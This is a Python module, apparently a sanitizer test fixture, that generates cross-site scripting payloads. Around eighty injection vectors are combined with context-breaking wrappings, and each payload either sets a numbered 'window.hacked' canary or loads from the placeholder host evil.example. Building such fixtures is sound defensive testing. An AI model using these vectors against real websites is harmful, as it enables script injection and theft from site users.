"""Markup that tries to run: some sixty vectors, each in several wrappings, each with a number it would leave behind."""

from collections.abc import Iterator
from typing import Final

FOREIGN: Final = "https://evil.example"
VECTORS: Final = (
    "<script>{js}</script>", "<script src={url}/x.js></script>", "<ScRiPt>{js}</sCrIpT>", "<script\n>{js}</script\n>",
    "<img src=x onerror=\"{js}\">", "<img src={url}/p.png>", "<img srcset=\"{url}/p.png 1x\" src=x>",
    "<IMG SRC=\"javascript:{js}\">", "<image src=x onerror={js}>", "<svg onload=\"{js}\">",
    "<svg><script>{js}</script></svg>", "<svg><animate onbegin=\"{js}\" attributeName=x dur=1s>",
    "<svg><set onbegin=\"{js}\" attributeName=x>", "<svg><a href=\"javascript:{js}\"><text y=20>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"{js}\">", "<math href=\"javascript:{js}\">x</math>",
    "<iframe src=\"javascript:{js}\"></iframe>", "<iframe srcdoc=\"<script>parent.{js}</script>\"></iframe>",
    "<iframe src={url}></iframe>", "<object data=\"javascript:{js}\"></object>", "<object data={url}/o></object>",
    "<embed src=\"javascript:{js}\">", "<embed src={url}/e>", "<body onload=\"{js}\">", "<details open ontoggle=\"{js}\">x</details>",
    "<input autofocus onfocus=\"{js}\">", "<select autofocus onfocus=\"{js}\">", "<textarea autofocus onfocus=\"{js}\">",
    "<button onclick=\"{js}\">x</button>", "<b onmouseover=\"{js}\">x</b>", "<div style=\"width:9in;height:9in\" onpointerenter=\"{js}\">x</div>",
    "<video src=x onerror=\"{js}\">", "<video poster={url}/v.png></video>", "<audio src=x onerror=\"{js}\">",
    "<video><source onerror=\"{js}\"></video>", "<marquee onstart=\"{js}\">x</marquee>", "<keygen autofocus onfocus=\"{js}\">",
    "<a href=\"javascript:{js}\">x</a>", "<a href=\"JaVaScRiPt:{js}\">x</a>", "<a href=\"java&#10;script:{js}\">x</a>",
    "<a href=\"&#106;avascript:{js}\">x</a>", "<a href=\"data:text/html,<script>opener.{js}</script>\">x</a>",
    "<base href={url}>", "<link rel=stylesheet href={url}/s.css>", "<style>@import '{url}/s.css';</style>",
    "<style>body{{background:url({url}/b.png)}}</style>", "<div style=\"background:url({url}/d.png)\">x</div>",
    "<meta http-equiv=refresh content=\"0;url={url}\">", "<meta http-equiv=refresh content=\"0;url=javascript:{js}\">",
    "<form action={url}><button>x</button></form>", "<form action=\"javascript:{js}\"><input type=submit></form>",
    "<isindex action=\"javascript:{js}\" type=submit>", "<template shadowrootmode=open><img src=x onerror=\"{js}\"></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\">", "<xmp><img src=x onerror=\"{js}\"></xmp>",
    "<table background={url}/t.png><td>x</table>", "<frameset onload=\"{js}\">", "<plaintext><script>{js}</script>",
    "![x]({url}/m.png)", "[x](javascript:{js})", "[x]({url})", "<{url}>", "$$\\href{{javascript:{js}}}{{x}}$$",
    "`<img src=x onerror={js}>`", "{{{{constructor.constructor('{js}')()}}}}", "${{{js}}}", "{{% raw %}}<script>{js}</script>",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e", "&lt;script&gt;{js}&lt;/script&gt;", "%3Cscript%3E{js}%3C/script%3E",
    "&#60;img src=x onerror={js}&#62;", "<portal src={url}>", "<dialog open onclose=\"{js}\">x</dialog>",
    "<style onload=\"{js}\"></style>", "<script type=module>{js}</script>", "<link rel=prefetch href={url}/pre>",
    "<a ping={url}/ping href=#x>x</a>", "<track src={url}/t.vtt>", "<script type=\"application/ld+json\">{{}}</script><script>{js}</script>",
)  # fmt: skip
WRAPPINGS: Final = (
    "{0}", "\">{0}", "'>{0}", "</script>{0}", "</textarea></title></style>{0}", "-->{0}", "]]>{0}", "\" autofocus onfocus=\"{0}",
    "\\\"{0}", "</p></blockquote></article>{0}", "</mark></div>{0}<div>", "\n\n{0}\n", "x{0}y" * 2,
)  # fmt: skip


def payloads(amount: int, first: int = 0) -> Iterator[str]:
    """Vectors in every wrapping, then over again; the n-th sets `window.hacked` to n or asks a foreign server."""
    every = len(VECTORS) * len(WRAPPINGS)
    for number in range(first, first + amount):
        vector, wrapping = VECTORS[number % every % len(VECTORS)], WRAPPINGS[number % every // len(VECTORS)]
        yield wrapping.format(vector.format(js=f"window.hacked={number + 1}", url=FOREIGN))
